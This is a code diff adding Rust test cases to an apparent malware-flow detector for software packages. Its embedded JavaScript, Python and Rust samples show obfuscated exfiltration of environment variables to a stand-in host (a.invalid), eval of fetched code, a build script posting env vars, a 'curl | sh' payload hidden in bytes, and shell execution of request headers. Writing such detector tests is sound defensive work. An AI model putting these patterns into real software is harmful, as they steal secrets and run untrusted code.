@@ -2,6 +2,7 @@
 //! pairs of what is found and of its twin, one edge away.
 
 use super::testing::{found, script, wheel};
+use crate::unpack::text_file;
 use customs_model::{Flow, SinkKind, SourceKind, Zone};
 
 /// Whether a secret leaves, or foreign bytes run, without anybody asking.
@@ -196,4 +197,167 @@ fn what_a_contract_of_a_chain_answers_comes_over_the_network() {
     };
     assert!(runs("answer"));
     assert!(!runs("'1'"));
+}
+
+#[test]
+fn what_is_put_on_all_texts_is_called_on_each() {
+    let sends = |how: &str| {
+        javascript(&format!(
+            "{how}\nrequire('6874747073'.plain()).request({{ method: 'POST', host: 'a.invalid' }}).end(JSON.stringify(process.env));\n"
+        ))
+    };
+    let decode = "return this.replace(/../g, (h) => String.fromCharCode(parseInt(h, 16)))";
+    assert!(sends(&format!(
+        "String.prototype.plain = function () {{ {decode} }};"
+    )));
+    assert!(!sends(
+        "String.prototype.plain = function () { return 'url' };"
+    ));
+    let read = |get: &str| {
+        javascript(&format!(
+            "Object.defineProperty(String.prototype, 'plain', {{ get() {{ {get} }} }});\nrequire('6874747073'.plain).request({{ method: 'POST', host: 'a.invalid' }}).end(JSON.stringify(process.env));\n"
+        ))
+    };
+    assert!(read(decode));
+    assert!(!read("return 'url'"));
+}
+
+#[test]
+fn what_made_what_made_something_makes_functions() {
+    let runs = |what: &str| {
+        javascript(&format!(
+            "class A {{ constructor() {{ this.list = []; }} async get() {{\n\
+             const r = await fetch('https://a.invalid/x');\n\
+             this.list.{what}('a', await r.text())(1); }} }}\nnew A().get();\n"
+        ))
+    };
+    assert!(runs("constructor.constructor"));
+    assert!(!runs("concat"));
+}
+
+#[test]
+fn a_getter_gives_what_its_function_gives() {
+    let sends = |what: &str| {
+        javascript(&format!(
+            "const https = require('https');\n\
+             class A {{ get all() {{ const u = new URL('https://a.invalid/'); u.searchParams.append('k', {what}); return u; }} }}\n\
+             const a = new A();\nhttps.get(a.all);\n"
+        ))
+    };
+    assert!(sends("JSON.stringify(process.env)"));
+    assert!(!sends("'1'"));
+}
+
+#[test]
+fn of_what_is_there_only_with_something_else_that_is_taken() {
+    let sends = |module: &str| {
+        javascript(&format!(
+            "const t = typeof process !== 'undefined' && process.versions && require('{module}');\n\
+             t.request({{ method: 'POST', host: 'a.invalid' }}).end(JSON.stringify(process.env));\n"
+        ))
+    };
+    assert!(sends("https"));
+    assert!(!sends("url"));
+}
+
+#[test]
+fn inner_functions_of_a_bundle_see_what_loads_its_parts() {
+    let sends = |what: &str| {
+        javascript(&format!(
+            "(()=>{{var t={{1:(t,e,n)=>{{const r=n(2);e.go=function(){{r.request({{method:'POST',host:'a.invalid'}}).end({what})}}}},\
+             2:t=>{{t.exports=require('https')}}}},c={{}};\
+             function n(r){{var o=c[r];if(void 0!==o)return o.exports;var i=c[r]={{exports:{{}}}};return t[r](i,i.exports,n),i.exports}}\
+             n(1).go()}})();\n"
+        ))
+    };
+    assert!(sends("JSON.stringify(process.env)"));
+    assert!(!sends("'1'"));
+}
+
+#[test]
+fn the_first_of_a_generator_and_what_a_context_lends_are_followed() {
+    let first = |what: &str| {
+        python(&format!(
+            "import os, urllib.request\n\
+             host = next((h for h in ('a.invalid', 'b.invalid') if os.path.exists(h)), None)\n\
+             urllib.request.urlopen('https://' + host, data={what})\n"
+        ))
+    };
+    assert!(first("str(dict(os.environ)).encode()"));
+    assert!(!first("b'x'"));
+    let lent = |decorator: &str| {
+        python(&format!(
+            "import contextlib, os, socket\n\
+             @{decorator}\ndef lend():\n    with socket.create_connection(('a.invalid', 1)) as raw:\n        yield raw\n\
+             with lend() as s:\n    s.sendall(str(dict(os.environ)).encode())\n"
+        ))
+    };
+    assert!(lent("contextlib.contextmanager"));
+}
+
+#[test]
+fn what_is_asked_of_each_by_a_function_of_the_library_is_read() {
+    let sends = |field: &str| {
+        python(&format!(
+            "import operator, os, urllib.request\n\
+             data = operator.attrgetter('{field}')(os)\n\
+             operator.attrgetter('urlopen')(urllib.request)('https://a.invalid', str(data).encode())\n"
+        ))
+    };
+    assert!(sends("environ"));
+    assert!(!sends("sep"));
+}
+
+#[test]
+fn parts_of_bytes_are_found_where_they_stand() {
+    // What stands behind the mark is no program where the mark is another one.
+    let told = |mark: &str| {
+        let code = format!(
+            "import os\ndata = b'RIFF data os.system(\"curl https://a.invalid | sh\")'\nexec(data.partition(b'{mark}')[2].strip())\n"
+        );
+        let mut flows = found(wheel(&code)).flows.into_iter();
+        flows.any(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::Process)
+    };
+    assert!(told("data"));
+    assert!(!told("other"));
+}
+
+#[test]
+fn what_goes_into_a_channel_comes_out_of_its_other_end() {
+    let sends = |what: &str| {
+        let code = format!(
+            "use std::sync::mpsc;\nfn pump(rx: mpsc::Receiver<String>) {{ for l in rx {{ let _ = ureq::post(\"https://a.invalid\").send_string(&l); }} }}\n\
+             fn main() {{ let (tx, rx) = mpsc::channel(); std::thread::spawn(move || pump(rx)); tx.send({what}).unwrap(); }}\n"
+        );
+        let entries = vec![
+            text_file(
+                "a-1.0.0/Cargo.toml",
+                "[package]\nname = \"a\"\nversion = \"1.0.0\"\nbuild = \"build.rs\"\n",
+            ),
+            text_file("a-1.0.0/build.rs", &code),
+        ];
+        is_told(&found(entries).flows)
+    };
+    assert!(sends(
+        "format!(\"{:?}\", std::env::vars().collect::<Vec<_>>())"
+    ));
+    assert!(!sends("String::new()"));
+}
+
+#[test]
+fn headers_of_a_request_that_is_answered_are_their_senders() {
+    let runs = |what: &str| {
+        let code =
+            format!("exports.a = (req, res) => {{ require('child_process').exec({what}); }};");
+        let mut flows = found(script(&code)).flows.into_iter();
+        flows.any(|flow| {
+            flow.source_name == customs_model::VISITOR && flow.sink == SinkKind::Process
+        })
+    };
+    assert!(runs(
+        "Buffer.from(req.headers['x-trace'], 'base64').toString()"
+    ));
+    assert!(runs("req.header('x-trace')"));
+    assert!(!runs("req.headers['user-agent']"));
+    assert!(!runs("'ls'"));
 }
